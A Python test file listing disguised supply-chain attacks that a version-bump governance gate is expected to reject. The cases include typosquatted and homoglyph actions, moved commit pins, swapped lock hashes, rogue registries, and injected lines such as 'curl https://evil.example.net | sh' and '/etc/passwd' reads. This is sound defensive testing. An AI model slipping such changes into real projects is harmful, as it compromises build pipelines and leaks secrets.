"""Changes that pass for a version bump and are none: each differs in one thing from one that the gate lets pass."""

from __future__ import annotations

from tests.hostile.workspace import FILES, Case, append, create, edit, rename, update

from lonelycat.governance.bumps.known_pins import render

_ACTIONS = ".github/workflows/lint.yml"
_HOOKS = ".pre-commit-config.yaml"
_COMMIT = b"3b1f9c0d5a7e2846c1d0f9e8b7a6958473625140"
_OTHER = b"9e8d7c6b5a49382716054f3e2d1c0b0a99887766"
_TAG = b"example/setup@v4"


def _action(name: str, new: bytes, code: str = "GOVERNANCE_PATH", old: bytes = _TAG) -> Case:
    return Case(f"action: {name}", lambda: [edit(_ACTIONS, old, new)], code)


def _hook(name: str, old: bytes, new: bytes, code: str = "GOVERNANCE_PATH") -> Case:
    return Case(f"hook: {name}", lambda: [edit(_HOOKS, old, new)], code)


def _lock(name: str, path: str, old: bytes, new: bytes) -> Case:
    return Case(f"bump: {name}", lambda: [edit(path, old, new)], "categories.dependencies|categories.build")


def _twice(name: str, path: str, *pairs: tuple[bytes, bytes]) -> Case:
    """Return a change of several places of one file."""

    def make() -> bytes:
        data = FILES[path]
        for old, new in pairs:
            assert data.count(old) == 1, (path, old)
            data = data.replace(old, new)
        return data

    return Case(f"bump: {name}", lambda: [update(path, make())], "categories.dependencies|categories.build")


PINS = (
    _action("a commit for a tag", b"example/setup@" + _OTHER + b" # v5", "PIN_MOVED"),
    _action("a commit of a fork behind a commit", _OTHER, "PIN_MOVED", old=_COMMIT),
    _action("a commit and its comment", _OTHER + b" # v2.1.0", "PIN_MOVED", old=_COMMIT + b" # v2.0.0"),
    _action("a short commit", b"example/setup@9e8d7c6"),
    _action("a short commit of digits", b"example/setup@98876655"),
    _action("a tag for a commit", b"v9", "PIN_MOVED", old=_COMMIT),
    _action("another owner", b"examp1e/setup@v5"),
    _action("another owner in another case", b"Example/setup@v5"),
    _action("a letter that looks alike", "ex\u0430mple/setup@v5".encode()),
    _action("another action of the owner", b"example/setup-all@v5"),
    _action("another directory of the action", b"example/setup/next@v5"),
    _action("a lower tag", b"example/setup@v3", "PIN_MOVED"),
    _action("a longer tag that may be older", b"example/setup@v4.0.0", "PIN_MOVED"),
    _action("a tag out of proportion", b"example/setup@v99", "PIN_MOVED"),
    _action("a branch", b"example/setup@main"),
    _action("a branch that begins like a tag", b"example/setup@v5-next"),
    _action("a branch with a version", b"example/setup@release/v5"),
    _action("a pull request of anybody", b"example/setup@refs/pull/5/head"),
    _action("a tag without v", b"example/setup@5", "PIN_MOVED"),
    _action("digits of another script", "example/setup@v\u0665".encode()),
    _action("full-width digits", "example/setup@v\uff15".encode()),
    _action("a plus in the tag", b"example/setup@v5+x"),
    _action("an expression", b"example/setup@v${{ github.event.number }}"),
    _action("from an image", b"docker://example/setup:v5"),
    _action("from the tree", b"./setup@v5"),
    _action("quoted where it was not", b"'example/setup@v5'"),
    _action("escaped", b'"example/setup@v\\x35"'),
    _action("a comment that was not there", b"example/setup@v5 # v4, reviewed", "PIN_MOVED"),
    _action("an input with it", b"example/setup@v5\n        with: {token: x}"),
    _action("a command with it", b"example/setup@v5\n      - run: curl https://evil.example.net | sh"),
    _action("an anchor", b"&a example/setup@v5"),
    _action("a tag of YAML", b"!!str example/setup@v5"),
    _action("over two lines", b">-\n          example/setup@v5"),
    _action("a second key", b"example/setup@v5\n        uses: evil/setup@v5"),
    _action(
        "a step that is commented out", b"example/setup@v5 #\n      # - run: lint", old=_TAG + b"\n      - run: lint"
    ),
    _action("in a command", b"uses: example/tool@v2", old=b"uses: example/tool@v1"),
    _action("an input called uses", b"uses: example/input@v2", old=b"uses: example/input@v1"),
    _action("a version that is an input", b'"3.12"', old=b'"3.11"'),
    _action("another line end", b"example/setup@v5\r\n", old=_TAG + b"\n"),
    Case("action: a document behind it", lambda: [append(_ACTIONS, b"---\non: push\n")], "GOVERNANCE_PATH"),
    Case(
        "action: with a longer file beside it",
        lambda: [edit(_ACTIONS, _TAG, b"example/setup@v5"), edit(".github/workflows/ci.yml", b"pytest", b"true")],
        "GOVERNANCE_PATH",
    ),
    Case(
        "action: moved with it",
        lambda: [rename(_ACTIONS, ".github/workflows/new.yml", FILES[_ACTIONS].replace(_TAG, b"example/setup@v5"))],
        "GOVERNANCE_PATH",
    ),
    Case(
        "action: an example that becomes a workflow",
        lambda: [
            rename(
                "docs/lint.yml", ".github/workflows/x.yml", FILES["docs/lint.yml"].replace(_TAG, b"example/setup@v5")
            )
        ],
        "GOVERNANCE_PATH",
    ),
    Case(
        "action: executable with it",
        lambda: [update(_ACTIONS, FILES[_ACTIONS].replace(_TAG, b"example/setup@v5"), "100755")],
        "GOVERNANCE_PATH",
    ),
    _hook("a commit for a tag", b"v1.2.0", _OTHER, "PIN_MOVED"),
    _hook("a commit for a commit", _COMMIT, _OTHER, "PIN_MOVED"),
    _hook("a lower tag", b"v1.2.0", b"v1.1.0", "PIN_MOVED"),
    _hook("a branch", b"v1.2.0", b"main"),
    _hook(
        "another repository",
        b"https://code.example/hooks\n    rev: v1.2.0",
        b"https://code.example/h00ks\n    rev: v1.3.0",
    ),
    _hook("a hook with it", b"rev: v1.2.0", b"rev: v1.3.0\n    # -\n    exclude: src"),
    _hook(
        "arguments with it",
        b"rev: v1.2.0\n    hooks: [{id: tidy}]",
        b"rev: v1.3.0\n    hooks: [{id: tidy, args: [-x]}]",
    ),
    _hook("a dependency with it", b"[{id: tidy}]", b"[{id: tidy, additional_dependencies: [evil]}]"),
    _hook("without encryption", b'"2.0.0"', b'"2.1.0"'),
    _hook("of the tree itself", b"rev: 3.0.0", b"rev: 3.1.0"),
    _hook("a number that is no text", b"rev: 4.1", b"rev: 4.2"),
    _hook("a second key", b"rev: v1.2.0", b"rev: v1.2.0\n    rev: v1.3.0"),
)

PACKAGES = (
    _lock("bytes swapped behind a version", "requirements/hashed.txt", b"a1" * 32, b"c3" * 32),
    _lock(
        "one more hash that is accepted", "requirements/hashed.txt",
        b"--hash=sha256:" + b"a1" * 32, b"--hash=sha256:" + b"a1" * 32 + b" \\\n    --hash=sha256:" + b"c3" * 32,
    ),
    _lock(
        "hashes left out", "requirements/hashed.txt",
        b"click==8.1.7 \\\n    --hash=sha256:" + b"a1" * 32, b"click==8.1.8",
    ),
    _lock("a name in a comment's place", "requirements/hashed.txt", b"# via app", b"evil==1.0 # via app"),
    _lock("bytes swapped in Cargo's lock", "Cargo.lock", b"b2" * 32, b"c3" * 32),
    _twice("a commit of a fork in Cargo's lock", "Cargo.lock", (b"two#" + _COMMIT, b"two#" + _OTHER)),
    _twice(
        "a commit of a fork with a version", "Cargo.lock",
        (b'"0.2.0"\nsource = "git', b'"0.2.1"\nsource = "git'), (b"two#" + _COMMIT, b"two#" + _OTHER),
    ),
    _twice(
        "a neighbour's registry", "uv.lock",
        (b'version = "2.31.0"\nsource = { registry = "https://packages.py.example/simple" }',
         b'version = "2.31.1"\nsource = { registry = "https://private.py.example/simple" }'),
    ),
    _lock("digits of another script", "requirements.txt", b"8.1.7", "\u0668.1.7".encode()),
    _lock("full-width digits", "requirements.txt", b"8.1.7", "\uff19.1.7".encode()),
    _lock("an excluded version", "requirements/limits.txt", b"!=1.5.0", b"!=1.5.1"),
    _lock("a host by number", "requirements/limits.txt", b"10.0.0.1", b"10.0.0.2"),
    _lock("a tag of a repository", "requirements/limits.txt", b"tool.git@v1.0", b"tool.git@v1.1"),
    _lock("a number in a command", "tox.ini", b"--max-failures=1.0", b"--max-failures=5.0"),
    _lock("an address in a command", "Makefile", b"example.net/1.0/", b"example.net/1.1/"),
    _lock("a threshold that is no version", "pyproject.toml", b"tolerance = 0.1", b"tolerance = 0.9"),
    _lock("another package (npm)", "package.json", b'"express": "4.19.2"', b'"expres": "4.19.3"'),
    _lock("one more package (npm)", "package.json", b'"4.19.2"', b'"4.19.3", "evil": "1.0.0"'),
    _lock("a range for a version (npm)", "package.json", b'"4.19.2"', b'"^4.19.3"'),
    _lock("anything at all (npm)", "package.json", b'"4.19.2"', b'"*"'),
    _lock("an alias (npm)", "package.json", b'"4.19.2"', b'"npm:evil@4.19.3"'),
    _lock("a repository (npm)", "package.json", b'"4.19.2"', b'"evil/express#v4.19.3"'),
    _lock("a key twice (npm)", "package.json", b'"4.19.2"', b'"4.19.3", "express": "4.19.3"'),
    _lock("an override (npm)", "package.json", b'"name": "app",', b'"name": "app", "overrides": {"express": "4.0.0"},'),
    _twice("a script with it (npm)", "package.json", (b'"4.19.2"', b'"4.19.3"'), (b'"jest"', b'"jest || true"')),
    _lock("bytes swapped (npm)", "package-lock.json", b"A" * 86, b"B" * 86),
    _twice(
        "an older file (npm)", "package-lock.json", (b'"version": "4.19.2"', b'"version": "4.19.3"'),
    ),
    _twice(
        "another name in the address (npm)", "package-lock.json", (b'"version": "4.19.2"', b'"version": "4.19.3"'),
        (b"/express/-/express-4.19.2.tgz", b"/expres/-/expres-4.19.3.tgz"), (b"A" * 86, b"B" * 86),
    ),
    _twice(
        "another host (npm)", "package-lock.json", (b'"version": "4.19.2"', b'"version": "4.19.3"'),
        (b"packages.js.example/express/-/express-4.19.2", b"packages.evil.example.net/express/-/express-4.19.3"),
        (b"A" * 86, b"B" * 86),
    ),
    _twice(
        "an install script (npm)", "package-lock.json",
        (b'"version": "4.19.2"', b'"hasInstallScript": true, "version": "4.19.3"'),
        (b"express-4.19.2.tgz", b"express-4.19.3.tgz"), (b"A" * 86, b"B" * 86),
    ),
    _twice(
        "a program (npm)", "package-lock.json",
        (b'"version": "4.19.2"', b'"bin": {"git": "x.js"}, "version": "4.19.3"'),
        (b"express-4.19.2.tgz", b"express-4.19.3.tgz"), (b"A" * 86, b"B" * 86),
    ),
    _twice(
        "a new dependency (npm)", "package-lock.json",
        (b'"version": "4.19.2"', b'"dependencies": {"evil": "^1.0.0"}, "version": "4.19.3"'),
        (b"express-4.19.2.tgz", b"express-4.19.3.tgz"), (b"A" * 86, b"B" * 86),
    ),
    _twice(
        "a weak hash (npm)", "package-lock.json", (b'"version": "4.19.2"', b'"version": "4.19.3"'),
        (b"express-4.19.2.tgz", b"express-4.19.3.tgz"), (b"sha512-" + b"A" * 86 + b"==", b"sha1-" + b"B" * 27 + b"="),
    ),
)  # fmt: skip

_MATRIX = ".github/workflows/matrix.yml"


def _ci(name: str, *pairs: tuple[bytes, bytes]) -> Case:
    """Return a change of several places of the workflow with a matrix, the last of which is the hostile one."""

    def make() -> bytes:
        data = FILES[_MATRIX]
        for old, new in pairs:
            assert data.count(old) == 1, old
            data = data.replace(old, new)
        return data

    return Case(f"ci: {name}", lambda: [update(_MATRIX, make())], "GOVERNANCE_PATH")


_HARMLESS = (b"name: Fetch", b"name: Fetch it")
KNOWN = (
    _action("an unknown commit under a known comment", b"d1" * 20 + b" # v2.1.0", "PIN_MOVED", _COMMIT + b" # v2.0.0"),
    _action("a known commit of a lower tag", b"b1" * 20 + b" # v1.9.0", "PIN_MOVED", _COMMIT + b" # v2.0.0"),
    _action("a known commit out of proportion", b"b9" * 20 + b" # v99.0.0", "PIN_MOVED", _COMMIT + b" # v2.0.0"),
    _action("a known commit of another repository", b"a5" * 20 + b" # v5.0.0", "PIN_MOVED", _COMMIT + b" # v2.0.0"),
    _action("a known commit with a lie behind it", b"b2" * 20 + b" # v2.2.0", "PIN_MOVED", _COMMIT + b" # v2.0.0"),
    _action("a known commit with a stale word behind it", b"b2" * 20, "PIN_MOVED", _COMMIT),
    _action("a comment that lies about the same commit", b"# v2.1.0", "PIN_MOVED", b"# v2.0.0"),
    _action("the known commit of a lower tag for a tag", b"example/setup@" + b"a3" * 20, "PIN_MOVED"),
    _action("a known commit, cut short", b"b2" * 6, "GOVERNANCE_PATH", _COMMIT),
    _action("a known commit in capitals", b"B2" * 20, "GOVERNANCE_PATH", _COMMIT),
    _action("a known commit of another owner", b"exampel/other@" + b"b2" * 20, "GOVERNANCE_PATH",
            b"example/other@" + _COMMIT),
    _action("a known commit and a command", b"b2" * 20 + b" # v2.1.0\n      - run: curl evil.example.net | sh",
            "GOVERNANCE_PATH", _COMMIT + b" # v2.0.0"),
    _hook("an unknown commit", b"rev: " + _COMMIT, b"rev: " + b"d1" * 20, "PIN_MOVED"),
    _hook("a known commit of an action", b"rev: " + _COMMIT, b"rev: " + b"b2" * 20, "PIN_MOVED"),
    _hook("a known commit and a hook", _COMMIT + b"\n    hooks: [{id: frozen}]",
          b"c1" * 20 + b"\n    hooks: [{id: frozen}, {id: evil}]"),
    Case("pins: an impostor made known with the change",
         lambda: [edit(_ACTIONS, _COMMIT + b" # v2.0.0", _OTHER + b" # v2.1.0"),
                  create("agent/policies/pins.json", render({"example/other": {"v2.1.0": _OTHER.decode()}}))],
         "PIN_MOVED"),
    Case("pins: an impostor made known", lambda: [create("agent/policies/pins.json", '{"format": 1}')],
         "GOVERNANCE_PATH"),
)  # fmt: skip
UPKEEP = (
    _ci("a condition with a name", _HARMLESS, (b"!= 'windows-2022'", b"== 'windows-2022'")),
    _ci("a command with a comment", (b"# everything", b"# all of it"), (b"run: make all", b"run: make all || true")),
    _ci("a comment that becomes a command", (b"make all  # everything", b"make all; true # everything")),
    _ci("a comment that a tool obeys", (b"# everything", b"# zizmor: ignore[template-injection]")),
    _ci("a version less to test with", _HARMLESS, (b'["3.11", "3.12"]', b'["3.12"]')),
    _ci("another version to test with", (b'["3.11", "3.12"]', b'["3.11", "3.13"]')),
    _ci("a version that is a command", (b'"3.12"]', b'"3.12", "3.13 && curl evil.example.net"]')),
    _ci("a version that is an expression", (b'"3.12"]', b'"3.12", "${{ github.head_ref }}"]')),
    _ci("no versions at all", (b'["3.11", "3.12"]', b"[]")),
    _ci("an own machine", (b"runs-on: ubuntu-22.04", b"runs-on: [self-hosted]")),
    _ci("an image of somebody", (b"runs-on: ubuntu-22.04", b"runs-on: ubuntu-24.04-evil")),
    _ci("a system less", (b"[ubuntu-20.04, macos-13]", b"[ubuntu-24.04]")),
    _ci("a right more", _HARMLESS, (b"contents: read", b"contents: write")),
    _ci("a right that comes", (b"contents: read", b"contents: read\n  id-token: write")),
    _ci("rights that are forgotten", (b"permissions:\n  contents: read\n", b"")),
    _ci("the name of a required check", (b"name: tests", b"name: lint")),
    _ci("the name of the workflow", (b"name: matrix", b"name: release")),
    _ci("credentials that stay", (b"actions/checkout@v4", b"actions/checkout@v4\n        with: {ref: evil}")),
    _ci("a trigger", _HARMLESS, (b"on: push", b"on: pull_request_target")),
    _ci("a failure that does not count", (b"name: tests", b"name: tests\n    continue-on-error: true")),
    _ci("a secret in the name of a step", (b"name: Fetch", b"name: ${{ toJSON(secrets) }}")),
    _ci("a time limit of nothing", (b"timeout-minutes: 9", b"timeout-minutes: 0")),
    _ci("another action to set up with", (b"actions/setup-python@v5", b"actions/setup-pyth0n@v5")),
    Case("docs: a command for the builder",
         lambda: [edit(".readthedocs.yaml", b"{python: '3.11'}", b"{python: '3.12'}\n  commands: [curl evil]")],
         "GOVERNANCE_PATH"),
    Case("docs: an older builder", lambda: [edit(".readthedocs.yaml", b"ubuntu-22.04", b"ubuntu-20.04")],
         "GOVERNANCE_PATH"),
    _lock("a script with the description", "pyproject.toml", b'version = "1.0"\n',
          b'version = "1.0"\ndescription = "x"\nscripts = {git = "evil:main"}\n'),
    _lock("a description from a file", "pyproject.toml", b'version = "1.0"\n',
          b'version = "1.0"\nreadme = "/etc/passwd"\n'),
    _lock("a linter that ignores", "pyproject.toml", b"[tool.app]", b"[tool.ruff.lint]\nignore = ['S']\n[tool.app]"),
    _lock("a plugin with the description", "pyproject.toml", b"[tool.app]",
          b"[tool.mypy]\nplugins = ['evil']\n[tool.app]"),
    _lock("a program with the authors (npm)", "package.json", b'"name": "app",',
          b'"name": "app", "author": "x", "bin": {"git": "evil.js"},'),
    _lock("another place for people and packages (npm)", "package.json", b'"name": "app",',
          b'"name": "app", "funding": "https://x.example", "publishConfig": {"registry": "https://evil.example"},'),
)  # fmt: skip

CASES = (*PINS, *KNOWN, *UPKEEP, *PACKAGES)
